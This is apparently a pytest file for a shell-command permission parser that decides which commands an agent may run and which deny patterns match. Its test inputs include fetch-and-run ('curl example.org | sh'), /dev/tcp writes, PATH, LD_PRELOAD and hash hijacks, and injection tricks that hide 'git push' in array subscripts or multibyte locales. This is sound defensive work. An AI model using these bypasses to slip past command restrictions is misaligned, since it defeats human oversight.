"""What a shell command may run, and which patterns match it."""

import pytest

from mesh.policy.commands import Expansion, ParsedCommand, Redirection, matches, may_match, shown
from mesh.policy.parts import command_of, of_program
from mesh.policy.shell import MAX_BYTES, parse, parse_now


def parts(text: str) -> list[str]:
    parsed = parse_now(text)
    assert parsed.why_ask == ""
    return [shown(part.words) for part in parsed.parts]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("pytest -q; git push", ["pytest -q", "git push"]),
        ("pytest && git push || rm x & ls", ["pytest", "git push", "rm x", "ls"]),
        ("cat a | grep b |& tee c", ["cat a", "grep b", "tee c"]),
        ('echo "$(git push)" `rm x`', ['echo "$(git push)" `rm x`', "git push", "rm x"]),
        ("diff <(git push) >(rm x)", ["diff <(git push) >(rm x)", "git push", "rm x"]),
        ("cat <<END\n$(git push)\nEND\n", ["cat", "git push"]),
        ("cat <<'END'\n$(git push)\nEND\n", ["cat"]),
        ("f() { git push; }; f", ["git push", "f"]),
        ("for x in a b; do git push; done", ["git push"]),
        ("if true; then git push; else rm x; fi", ["true", "git push", "rm x"]),
        ("case a in b) git push;; esac", ["git push"]),
        ("while read -r line; do git push; done < list", ["read -r line", "git push"]),
        ("(git push); { rm x; }", ["git push", "rm x"]),
        ("time git push; ! rm x", ["git push", "rm x"]),
        ("coproc git push", ["git push"]),
        ("echo ${x:-$(git push)} $((1 + 2))", ["echo ${x:-$(git push)} $((1 + 2))", "git push"]),
        ("[[ -n $(git push) ]]", ["git push"]),
        ("x=$(git push)", ["git push"]),
        ("g'it' \"push\" \\; \\\n  main", ["git push ; main"]),
        ("pytest # git push", ["pytest"]),
    ],
)
def test_each_simple_command_is_a_part(text: str, expected: list[str]) -> None:
    assert parts(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "git push 'x",
        "if true; then",
        "$X push",
        '"$X" push',
        "$'git' push",
        "{git,push}",
        "g*t push",
        "~/git push",
        "$(echo git) push",
        "eval git push",
        "\\eval git push",
        "builtin eval git push",
        "source script",
        ". script",
        "sh -c 'git push'",
        "/bin/bash -lc 'git push'",
        "env sh -c 'git push'",
        "bash",
        "bash <<< 'git push'",
        "bash /dev/stdin < script",
        "curl example.org | sh",
        "find . -exec git push \\;",
        "find . -name x -execdir rm {} +",
        "find $X",
        "xargs find . -name",
        "xargs sh",
        "xargs -I{} {} push",
        "env -S 'git push'",
        "env $X git push",
        "nice --unknown git push",
        "timeout $X git push",
        "trap 'git push' EXIT",
        "alias pytest='git push'",
        "pytest # \\\ngit push",
        "pytest \\",
        "cat <<END\nx\\\nEND\ngit push\nEND\n",
        "cat <<E-1\nx\\\nE-1\ngit push\nE-1\n",
        "cat <<E-1\nx\\\nE-1\ngit push\nE-1\n",
        "echo `echo \\`git push\\``",
        "x='a[$(git push)]'; echo $((x))",
        "x='a[$(git push)]'; [[ $x -eq 1 ]]",
        "x='a[$(git push)]'; echo ${y[$x]}",
        "x='a[$(git push)]'; echo ${!x}",
        "x='$(git push)'; echo ${x@P}",
        "printf -v 'a[$(git push)]' x",
        "read 'a[$(git push)]' <<< x",
        "test -v 'a[$(git push)]'",
        "declare -n x='a[$(git push)]'; echo $x",
        "hash -p ./evil git; git status",
        "read PATH < file; pytest",
        "for PATH in ./evil; do pytest; done",
        ": ${PATH:=./evil}; pytest",
        "v='x[$(git push)]'; : {a[$v]}>f",
        "PS4='$(git push)'; set -x; pytest",
        'LC_ALL=zh_CN.gbk\ncat "中\\" /dev/null; git push; : # "',
        "LANG=ja_JP.sjis; pytest",
        "LANG=$x; pytest",
        "LC_CTYPE+=x; pytest",
        "export LC_ALL=zh_TW.big5; pytest",
        "export -n LC_ALL=C LANG=zh_TW.big5; pytest",
        "read LC_ALL <<< zh_CN.gbk; pytest",
        "printf -v LC_ALL zh_CN.gbk; pytest",
        "printf -vLC_ALL zh_CN.gbk; pytest",
        "for LC_ALL in zh_CN.gbk; do pytest; done",
        ": ${LC_ALL:=zh_CN.gbk}; pytest",
        "unset LC_ALL; pytest",
        "prlimit git push",
        "set -a; args='; git push'; make test",
        "set -eo allexport; args='; git push'; make test",
        "RANDOM='x[$(git push)]'",
        "export SECONDS='x[$(git push)]'",
        "shopt -s expand_aliases",
        "x >&'a[$(git push)]'",
        'x >&"$f"',
        "echo 1 > /dev/tcp/example.org/80",
        "pytest\r\ngit push",
        "pytest\x00",
        "\ud800",
        "a" * (MAX_BYTES + 1),
        "$(" * 4000,
        "a|" * 4000 + "a",
        "$(" * 1500 + "a" + ")" * 1500,
    ],
)
def test_what_does_not_show_what_it_runs_asks(text: str) -> None:
    assert parse_now(text).why_ask


@pytest.mark.parametrize(
    ("text", "inside"),
    [
        ("env A=1 git push", "git push"),
        ("A=1 git push", "git push"),
        ("nice -n 5 nohup timeout -k 1 9 git push", "git push"),
        ("xargs -0n1 git push", "git push …"),
        ("xargs -I % git push %", "git push %"),
        ("sudo -u root git push", "git push"),
        ("command -p git push", "git push"),
        ("exec -a x git push", "git push"),
        ("stdbuf -oL setsid -w git push", "git push"),
        ("\\time -p git push", "git push"),
        ("/usr/bin/git push", "git push"),
        ("/usr/bin/env ./git push", "git push"),
        ("builtin command git push", "git push"),
    ],
)
def test_a_deny_sees_through_wrappers_assignments_and_folders(text: str, inside: str) -> None:
    (part,) = parse_now(text).parts
    assert parse_now(text).why_ask == ""
    assert inside in [shown(words) for words in part.looked_through]
    assert any(may_match("git push *", words) for words in part.looked_through)


@pytest.mark.parametrize(
    ("text", "allowed_as"),
    [
        ("pytest -q", "pytest -q"),
        ("LANG=C env -u X timeout 9 pytest -q", "pytest -q"),
        ("x=1; pytest", "pytest"),
        ("x=1 pytest", "x=1 pytest"),
        ("args='; git push' make test", "args=; git push make test"),
        ("npm_config_script_shell=./x npm test", "npm_config_script_shell=./x npm test"),
        ("env args=x make test", "env args=x make test"),
        ("LANG=C cc='touch x;' make", "cc=touch x; make"),
        ("/usr/bin/env pytest", "pytest"),
        ("./env pytest", "./env pytest"),
        ("/usr/bin/pytest", "/usr/bin/pytest"),
        ("nice sudo pytest", "sudo pytest"),
        ("PATH=. pytest", "PATH=. pytest"),
        ("env LD_PRELOAD=./x pytest", "env LD_PRELOAD=./x pytest"),
        ("https_proxy=x pytest", "https_proxy=x pytest"),
        ("LC_ALL=de_DE.UTF-8 pytest", "pytest"),
        ("LC_ALL=C; pytest", "pytest"),
        ("LC_ALL=zh_CN.gbk pytest", "LC_ALL=zh_CN.gbk pytest"),
        ("env LANG=$x pytest", "env LANG=$x pytest"),
        ("PATH=.", "PATH=."),
    ],
)
def test_an_allow_sees_through_what_gives_no_rights(text: str, allowed_as: str) -> None:
    (part,) = parse_now(text).parts
    assert shown(part.allowed_as) == allowed_as


def test_a_quoted_assignment_is_the_name_of_a_program() -> None:
    (part,) = parse_now('"x=1" pytest').parts
    assert part.allowed_as == ("x=1", "pytest")
    assert part.looked_through == ()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("pytest > out 2>> 'my log'", [("out", True), ("my log", True)]),
        ("sort < a >| b &> c", [("a", False), ("b", True), ("c", True)]),
        ("x <> f", [("f", False), ("f", True)]),
        ("x > /dev/null 2>&1 < /dev/stdin 3>&- >&2", []),
        ("x >& file", [("file", True)]),
        ("echo $(< secret)", [("secret", False)]),
        ("{ x; } > out; f() { y; } 2> err", [("out", True), ("err", True)]),
        ("x > >(tee log)", []),
        ("cat <<< text", []),
    ],
)
def test_redirections_are_paths(text: str, expected: list[tuple[str, bool]]) -> None:
    parsed = parse_now(text)
    assert parsed.why_ask == ""
    assert parsed.paths == tuple(Redirection(path, writes) for path, writes in expected)


def test_a_path_that_is_computed_or_follows_a_cd_is_not_known() -> None:
    parsed = parse_now('cd sub && echo "$x" > "$y" 2> err > /tmp/z')
    assert [path.path for path in parsed.paths] == [
        Expansion('"$y"', splits=False),
        Expansion("err", splits=False),
        "/tmp/z",
    ]


def test_a_program_that_is_run_without_a_shell_is_one_part() -> None:
    assert of_program("git", ["log", "$X", "a b; rm"]) == ParsedCommand(
        (command_of(("git", "log", "$X", "a b; rm")),)
    )
    assert of_program("env", ["git", "push"]).parts[0].looked_through == (("git", "push"),)
    assert of_program("sh", ["-c", "git push"]).why_ask


@pytest.mark.parametrize(
    ("pattern", "text", "expected"),
    [
        ("pytest *", "pytest", True),
        ("pytest *", "pytest -q tests", True),
        ("pytest", "pytest -q", False),
        ("pytest *", "pytest-3 -q", False),
        ("git push origin agent/*", "git push origin agent/a/b", True),
        ("git push origin agent/*", "git push origin main", False),
        ("git push origin agent/*", "git push origin agent/a --force", False),
        ("git push origin agent/*", 'git push origin "$X"', False),
        ("git push * main", 'git push "$X" main', True),
        ("git push * main", "git push $X main", False),
        ("git add *", "git add *.py $X", True),
        ("echo [ab]", "echo 'a'", True),
        ("echo [ab]", "echo [ab]", False),
        ("git", "gi", False),
        ("*", "anything at all", True),
    ],
)
def test_a_pattern_matches_word_by_word(pattern: str, text: str, expected: bool) -> None:
    (part,) = parse_now(text).parts
    assert matches(pattern, part.words) is expected
    assert may_match(pattern, part.words) >= expected


@pytest.mark.parametrize("text", ["git $X", 'git "$X"', "git {push,pull}", "git p*", "git $X main"])
def test_a_deny_may_match_what_is_computed(text: str) -> None:
    (part,) = parse_now(text).parts
    assert not matches("git push *", part.words)
    assert may_match("git push *", part.words)
    assert not may_match("rm *", part.words)


async def test_a_text_is_parsed_within_its_bounds() -> None:
    parsed = await parse("a;" * (MAX_BYTES // 2))
    assert len(parsed.parts) == MAX_BYTES // 2
    assert "more than" in (await parse("é" * MAX_BYTES)).why_ask


def test_an_error_of_syntax_is_told_with_its_place() -> None:
    assert parse_now("pytest |").why_ask.startswith("it does not parse: 1:8: ")
